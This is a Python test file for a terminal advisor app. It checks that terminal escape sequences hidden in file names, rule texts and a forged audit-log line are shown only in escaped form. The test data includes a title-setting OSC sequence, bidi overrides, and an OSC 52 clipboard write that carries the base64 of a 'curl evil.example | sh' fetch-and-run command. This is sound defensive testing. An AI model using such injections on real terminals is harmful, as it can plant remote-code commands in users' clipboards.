"""No terminal escape from the data reaches the terminal through the app.

Textual writes a widget's text to the terminal as it is (ESC, C1 controls and bidi
overrides included: a label holding ``ESC ] 0 ; title BEL`` sets the window title of
whoever has the app open). The app shows such text with its controls as escapes
(``\\x1b``), and a last guard takes out whatever still holds one from each frame
(tui_advisor/ui/textual_fixes.py). Here the app runs on a real pty, as a teammate has it open,
over a data file whose name holds OSC 0 and OSC 52 (the header shows the path), a rule
file whose texts hold them (the dashboard and the advice show them) and a forged line of
the audit log (the history screen shows it); every byte written to the terminal is
searched for the sequences.
"""

from __future__ import annotations

import base64
import json
import os
import re
from pathlib import Path

from rich.segment import Segment
from textual._compositor import ChopsUpdate, LayoutUpdate
from textual.geometry import Region
from textual.strip import Strip

from cli.test_cli_terminal import _close, _read_until, _spawn_on_pty  # the pty helpers of tests/cli
from tui_advisor import paths
from tui_advisor.store import Store
from tui_advisor.ui.textual_fixes import clean_update
from tui_advisor.workspace import read_document

TITLE = "PWNED-TITLE"
OSC_TITLE = f"\x1b]0;{TITLE}\x07"
PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
OSC_CLIPBOARD = f"\x1b]52;c;{PAYLOAD}\x07"
HOSTILE = f"{OSC_TITLE}{OSC_CLIPBOARD}\x9b2J\u202eevil\u2066"


def _rule_file(path: Path) -> Path:
    lines = [
        'pillar = "cash"',
        "",
        "[[rule]]",
        'id = "EVIL001"',
        'name = "evil"',
        'source = "G5"',
        'severity = "critical"',
        'when = "cash_months >= 0"',
        f"title = {json.dumps('Rule ' + HOSTILE)}",
        f"message = {json.dumps('Message ' + HOSTILE)}",
        'rationale = "Because."',
        f"actions = [{json.dumps('Act ' + OSC_CLIPBOARD)}]",
        "",
    ]
    path.write_text("\n".join(lines), encoding="utf-8")  # json's \u escapes: TOML reads the controls
    return path


def _forge_history(data: Path) -> None:
    """A line a member of the group appends to the audit log: a change of every client."""
    store = Store(data)
    clients = store.load().clients
    entry = {
        "rev": store.revision(),
        "at": f"2026-11-30T10:00:00Z{OSC_TITLE}",
        "by": f"mallory{OSC_CLIPBOARD}",
        "action": "edit\u202e",
        "changes": [
            {"kind": "clients", "key": c.id, "before": {"name": c.name}, "after": {"name": f"New{HOSTILE}"}}
            for c in clients
        ],
    }
    with data.with_name(data.name + ".audit.jsonl").open("a", encoding="utf-8") as f:
        f.write(json.dumps(entry) + "\n")


def _teammate_saves_and_forges(data: Path) -> None:
    """A teammate's save (the open app reads it and says who changed the data), then a forged
    line claiming that revision: the app's notice names whoever the last line of the log names."""
    store = Store(data)
    store.import_document(
        {"format": "tui-advisor/agency", "version": 1, "clients": [{"id": "c-new", "name": "New client"}]}
    )
    entry = {
        "rev": store.revision(),
        "at": "2026-11-30T11:00:00Z",
        "by": f"toast{OSC_CLIPBOARD}",
        "action": f"import{OSC_TITLE}",
        "changes": [],
    }
    with data.with_name(data.name + ".audit.jsonl").open("a", encoding="utf-8") as f:
        f.write(json.dumps(entry) + "\n")


def _assert_no_escape_from_the_data(out: bytes) -> None:
    assert b"\x1b]0;" + TITLE.encode() not in out  # the title was never set
    assert b"\x1b]52;" not in out  # nothing wrote the clipboard (the app itself never does here)
    assert re.search(rb"\x1b[\]P_^X][^\x07\x1b]*" + re.escape(PAYLOAD.encode()), out) is None
    for raw in ("\x9b", "\u202e", "\u2066"):
        assert raw.encode() not in out, f"{raw!r} reached the terminal"
    for m in re.finditer(re.escape(TITLE.encode()), out):  # every occurrence: inside the visible escape
        assert out[m.start() - 7 : m.start()] == b"\\x1b]0;", out[m.start() - 40 : m.end() + 10]


def test_a_hostile_path_rule_and_audit_entry_reach_the_terminal_only_as_escapes(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    data = shared / f"agency{OSC_TITLE}.json"
    Store(data).import_document(read_document(paths.sample_file("demo")), replace=True)
    _forge_history(data)
    rules = _rule_file(tmp_path / "evil.toml")
    proc, master = _spawn_on_pty(
        ["--data", str(data), "--rules", str(rules), "--as-of", "2026-11-26"], tmp_path, size=(120, 40)
    )
    try:
        out = _read_until(master, proc, [b"Independence score", b"Rule \\x1b]0;" + TITLE.encode()], 60)
        assert b"Independence score" in out, out[-800:]
        assert b"Rule \\x1b]0;" + TITLE.encode() in out  # the dashboard's most urgent list, escaped
        _teammate_saves_and_forges(data)  # the open app polls the data file every second
        out += _read_until(master, proc, [b"toast\\x1b]52;c;", b"changed the"], 30)
        assert b"toast\\x1b]52;c;" in out and b"changed the" in out, out[-1500:]  # the notice, escaped
        os.write(master, b"2")  # the advice: the table and the selected one's detail
        out += _read_until(master, proc, [b"Recommendation", b"\\u202eevil"], 30)
        assert b"\\x9b2J\\u202eevil\\u2066" in out
        os.write(master, b"5")  # the clients
        out += _read_until(master, proc, [b"Clients"], 30)
        out += _read_until(master, proc, [b"\x1b[1;1H"], 5)
        os.write(master, b"l")  # the history of the client under the cursor: the forged entry
        out += _read_until(master, proc, [b"History of", b"mallory"], 30)
        assert b"mallory\\x1b]52;c;" + PAYLOAD.encode() + b"\\x07" in out, out[-1500:]
        assert b"edit\\u202e" in out and b"2026-11-30T10:00:00Z\\x1b]0;" + TITLE.encode() in out
        os.write(master, b"q")  # close the history (its keys: escape, q, l)
        out += _read_until(master, proc, [b"sorted by"], 10)
        os.write(master, b"q")
        out += _read_until(master, proc, [b"\x1b[?1049l"], 30)
        assert proc.wait(timeout=30) == 0
        _assert_no_escape_from_the_data(out)
    finally:
        _close(proc, master)


def test_the_guard_takes_controls_out_of_every_frame() -> None:
    """Whatever text still holds a control when a frame is written loses it there (the
    layout stays: controls take no cell), in whole-screen and partial updates alike."""
    dirty = Strip([Segment("ok "), Segment(f"N{OSC_TITLE}\x9bX")])
    clean = Strip([Segment("fine")])
    layout = clean_update(LayoutUpdate([[clean, dirty]], Region(0, 0, 20, 1)))
    assert [s.text for s in layout.strips[0]] == ["fine", f"ok N]0;{TITLE}X"]
    assert layout.strips[0][1].cell_length == dirty.cell_length
    chops = clean_update(ChopsUpdate([{0: clean, 4: dirty, 9: None}], [(0, 0, 20)], [[4, 9, 20]]))
    assert chops.chops[0][4].text == f"ok N]0;{TITLE}X" and chops.chops[0][9] is None
    untouched = LayoutUpdate([[clean]], Region(0, 0, 4, 1))
    assert clean_update(untouched) is untouched
